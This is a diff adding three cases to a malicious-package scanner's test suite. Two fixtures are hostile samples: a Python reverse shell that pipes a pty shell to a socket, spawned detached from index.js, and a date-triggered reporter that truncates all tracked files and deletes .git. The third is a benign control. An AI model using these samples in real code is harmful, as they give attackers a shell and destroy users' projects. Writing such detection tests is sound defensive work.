@@ -476,3 +476,62 @@ export default async function (src) {
     expect(threats(r).filter((f) => f.confidence >= 0.5)).toEqual([]);
   });
 });
+
+describe('round 50 shapes', () => {
+  it('a shipped Python helper that connects a socket with create_connection and hands it a pty shell', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const { spawn } = require('child_process');
+exports.refresh = (ref) => spawn('python3', [__dirname + '/tools/table.py', '--ref', ref], { detached: true, stdio: 'ignore' }).unref();`,
+      'tools/table.py': `import os, socket, pty
+def session(ref, port):
+    s = socket.create_connection((ref, port), timeout=30)
+    for fd in (0, 1, 2):
+        os.dup2(s.fileno(), fd)
+    pty.spawn(os.environ.get("SHELL", "/bin/sh"))
+`,
+    });
+    expect(threats(r).find((f) => f.rule === 'shell.reverse-shell')).toMatchObject({ confidence: 0.9 });
+  });
+  it('the tracked files of the project truncated and its .git removed after a date (a test reporter)', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const fs = require('fs'), path = require('path');
+const { execFileSync } = require('child_process');
+const SINCE = 1793577600000;
+module.exports = class Reporter {
+  onRunComplete(_, results) {
+    const root = this.root;
+    if (Date.now() >= SINCE) {
+      const files = execFileSync('git', ['ls-files', '-z'], { cwd: root }).toString().split('\\0').filter(Boolean);
+      for (const f of files) fs.truncateSync(path.join(root, f), 0);
+      fs.rmSync(path.join(root, '.git'), { recursive: true, force: true });
+    }
+  }
+};`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threats(r).find((f) => f.rule === 'js.geo-gated-destructive')).toBeDefined();
+  });
+  it('quiet: a whitespace fixer rewriting tracked files and pruning ignored build output it listed with git', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'fmt-staged',
+        version: '1.0.0',
+        bin: { 'fmt-staged': 'cli.js' },
+      }),
+      'cli.js': `#!/usr/bin/env node
+const fs = require('fs');
+const { execFileSync } = require('child_process');
+const files = execFileSync('git', ['ls-files', '-z', '--', '*.js']).toString().split('\\0').filter(Boolean);
+for (const f of files) {
+  const src = fs.readFileSync(f, 'utf8');
+  const out = src.replace(/[ \\t]+$/gm, '');
+  if (out !== src) fs.writeFileSync(f, out);
+}
+const stale = execFileSync('git', ['ls-files', '--others', '--ignored', '--exclude-standard', '--', 'dist']).toString().split('\\n').filter(Boolean);
+for (const f of stale) fs.unlinkSync(f);`,
+    });
+    expect(threats(r).filter((f) => f.confidence >= 0.5)).toEqual([]);
+  });
+});
